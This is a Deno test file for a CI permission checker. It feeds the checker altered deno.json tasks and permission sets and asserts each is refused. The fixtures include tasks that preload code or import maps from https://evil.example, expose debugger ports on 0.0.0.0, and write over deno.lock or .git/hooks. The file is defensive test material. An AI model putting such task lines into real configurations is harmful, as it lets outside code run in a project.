/**
 * `scripts/check_permissions.ts` as CI runs it, on a copy of the real
 * deno.json changed the ways a reviewer found passing: a task that runs
 * thoth's code and may prompt, a debugger port or code from outside the
 * project, a widened permission set, and a file deno itself writes over
 * deno.json, deno.lock, node_modules or .git.
 */
import assert from "node:assert/strict";
import { checkConfigCopy, type Found } from "./_check_permissions_copy.ts";

const ROOT = new URL("../../", import.meta.url).pathname.replace(/\/$/, "");

type Config = Record<string, Record<string, unknown>>;

/** Runs the check on the real deno.json (and lock) as `change` leaves it, in a temp folder. */
async function checkChanged(change: (config: Config) => void): Promise<Found[]> {
  const { code, findings } = await checkConfigCopy((config) => change(config as Config));
  assert.equal(code, findings.length === 0 ? 0 : 1);
  return findings;
}

/** The findings for `task` put in as the task "probe", on that task only. */
async function checkTask(task: string): Promise<Found[]> {
  const findings = await checkChanged((c) => {
    c["tasks"] = { ...c["tasks"], probe: task };
  });
  const others = findings.filter((f) => f.where !== 'task "probe"');
  assert.deepEqual(others, [], `only the probe task is a finding for "${task}"`);
  return findings;
}

Deno.test("check_permissions.ts passes the real deno.json, whose tasks all run with --no-prompt", async () => {
  assert.deepEqual(await checkChanged(() => {}), []);
  const config = JSON.parse(await Deno.readTextFile(`${ROOT}/deno.json`));
  for (const name of ["thoth", "thothctl", "test", "bench", "demo", "build", "check-permissions"]) {
    const words = (config.tasks[name] as string).split(" ");
    assert.ok(words.includes("--no-prompt"), `task ${name}: ${words.join(" ")}`);
  }
  const thoth = (config.tasks.thoth as string).split(" ");
  assert.ok(thoth.indexOf("--no-prompt") < thoth.indexOf("src/cli/thoth.ts"));
});

Deno.test("check_permissions.ts refuses a task that runs thoth's code without --no-prompt", async () => {
  for (const name of ["thoth", "thothctl", "test", "bench:policy"]) {
    const findings = await checkChanged((c) => {
      const tasks = c["tasks"] as Record<string, string>;
      tasks[name] = (tasks[name] as string).replace(" --no-prompt", "");
    });
    assert.deepEqual(findings.map((f) => `${f.code} ${f.where}`), [`no_prompt task "${name}"`]);
    assert.match(findings[0]?.message ?? "", /without --no-prompt, .*one keypress widens it/);
  }
  // After the module it is the program's argument, not deno's.
  const after = await checkTask(
    "deno run -P=thoth --no-remote --cached-only --frozen-lockfile src/cli/thoth.ts --no-prompt",
  );
  assert.deepEqual(after.map((f) => f.code), ["no_prompt"]);
});

const REFUSED: [task: string, code: string, says: RegExp][] = [
  // B: a debugger port runs any code, whatever the set.
  ["deno run -P=thoth --no-prompt --inspect src/cli/thoth.ts", "debugger", /debugger port/],
  [
    "deno run -P=thoth --no-prompt --inspect-brk=0.0.0.0:9229 src/cli/thoth.ts",
    "debugger",
    /"--inspect-brk=0\.0\.0\.0:9229"/,
  ],
  ["deno run -P=thoth --no-prompt --inspect-wait src/cli/thoth.ts", "debugger", /debugger/],
  ["deno test -P=test --no-prompt --inspect-brk=0.0.0.0:9229", "debugger", /debugger/],
  // B: code from outside the project.
  [
    "deno run -P=thoth --no-prompt npm:cowsay",
    "foreign_code",
    /"npm:cowsay", a URL or package \(npm:\)/,
  ],
  ["deno run -P=thoth --no-prompt jsr:@std/http/file-server", "foreign_code", /jsr:/],
  ["deno run -P=thoth --no-prompt https://evil.example/x.ts", "foreign_code", /https:/],
  ["deno run -P=thoth --no-prompt -", "foreign_code", /standard input/],
  ["deno run -P=thoth --no-prompt --ext=ts -", "foreign_code", /standard input/],
  ["deno repl -P=thoth", "foreign_code", /deno repl runs whatever is typed or piped/],
  ["deno repl -P=thoth --eval-file=src/cli/thoth.ts", "foreign_code", /deno repl/],
  ["deno -P=thoth --no-prompt src/cli/thoth.ts", "unreadable_task", /with no subcommand/],
  [
    "deno run -P=thoth --no-prompt --preload=https://evil.example/x.ts src/cli/thoth.ts",
    "foreign_code",
    /--preload "https:\/\/evil\.example\/x\.ts".*runs before the main module/,
  ],
  ["deno run -P=thoth --no-prompt --import=npm:x src/cli/thoth.ts", "foreign_code", /--import/],
  [
    "deno run -P=thoth --no-prompt --import-map=https://evil.example/map.json src/cli/thoth.ts",
    "foreign_code",
    /--import-map .*decides which code every import loads/,
  ],
  [
    "deno run -P=thoth --no-prompt --import-map=/tmp/evil.json src/cli/thoth.ts",
    "outside_project",
    /an absolute path/,
  ],
  [
    "deno run -P=thoth --no-prompt --import-map ../evil.json src/cli/thoth.ts",
    "outside_project",
    /climbs out/,
  ],
  // D: files deno itself writes.
  ["deno test -P=test --no-prompt --junit-path=deno.json", "protected_path", /"deno\.json"/],
  ["deno test -P=test --no-prompt --junit-path ./deno.lock", "protected_path", /deno\.lock/],
  ["deno test -P=test --no-prompt --coverage=node_modules", "protected_path", /node_modules/],
  ["deno test -P=test --no-prompt --coverage=.git/hooks", "protected_path", /\.git.*hooks run/],
  ["deno coverage --output=deno.lock cov", "protected_path", /--output "deno\.lock"/],
  ["deno doc --html --output=node_modules", "protected_path", /node_modules/],
  ["deno test -P=test --no-prompt --junit-path=/tmp/x.xml", "protected_path", /outside/],
];

for (const [task, code, says] of REFUSED) {
  Deno.test(`check_permissions.ts refuses the task "${task}"`, async () => {
    const findings = await checkTask(task);
    const hit = findings.find((f) => f.code === code);
    assert.ok(hit !== undefined, JSON.stringify(findings));
    assert.match(hit.message, says);
  });
}

Deno.test("check_permissions.ts passes output written inside the project and reports on stdout", async () => {
  const tasks = [
    "deno test -P=test --no-prompt --junit-path=- --coverage=coverage/run",
    "deno coverage --lcov --output=coverage/lcov.info coverage/run",
    "deno doc --html --output=dist/doc src/cli/thoth.ts",
  ];
  for (const task of tasks) assert.deepEqual(await checkTask(task), [], task);
});

const WIDENED: [what: string, change: (sets: Config) => void, want: string[]][] = [
  [
    "thoth with every kind granted",
    (s) => {
      s["thoth"] = {
        read: true,
        write: true,
        net: true,
        env: true,
        sys: true,
        run: true,
        ffi: true,
      };
    },
    ["allow_all", "above_ceiling"],
  ],
  // An unscoped run is allow-all-equivalent too, for a set UNSCOPED_RUN_ALLOWED does not name.
  ["thothctl gaining run", (s) => void (s["thothctl"]!["run"] = true), [
    "above_ceiling",
    "allow_all",
  ]],
  ["thothctl gaining net", (s) => void (s["thothctl"]!["net"] = ["example.com"]), [
    "above_ceiling",
  ]],
  ["thoth gaining ffi", (s) => void (s["thoth"]!["ffi"] = true), ["above_ceiling"]],
  ["thoth gaining a sys value", (s) => void (s["thoth"]!["sys"] = ["hostname", "cpus"]), [
    "above_ceiling",
  ]],
  ["check_permissions gaining write", (s) => void (s["check_permissions"]!["write"] = true), [
    "above_ceiling",
  ]],
  ["check_permissions gaining run", (s) => void (s["check_permissions"]!["run"] = true), [
    "above_ceiling",
    "allow_all",
  ]],
  ["build gaining write everywhere", (s) => void (s["build"]!["write"] = true), [
    "above_ceiling",
  ]],
  ["build gaining net", (s) => void (s["build"]!["net"] = true), ["above_ceiling"]],
  ["test gaining any host", (s) => void (s["test"]!["net"] = true), ["above_ceiling"]],
  ["a new set", (s) => void (s["dev"] = { read: true }), ["above_ceiling"]],
];

for (const [what, change, want] of WIDENED) {
  Deno.test(`check_permissions.ts refuses a manifest with ${what}`, async () => {
    const findings = await checkChanged((c) => change(c["permissions"] as Config));
    const sets = findings.filter((f) => f.where.startsWith("permission set "));
    assert.deepEqual(sets.map((f) => f.code), want, JSON.stringify(findings));
    const ceiling = sets.find((f) => f.code === "above_ceiling");
    assert.match(ceiling?.message ?? "", /src\/release\/permission_ceiling\.ts/);
  });
}

Deno.test("check_permissions.ts passes a set narrowed below its ceiling", async () => {
  const findings = await checkChanged((c) => {
    const sets = c["permissions"] as Config;
    sets["thoth"]!["net"] = false;
    sets["thoth"]!["sys"] = ["hostname"];
  });
  assert.deepEqual(findings, []);
});
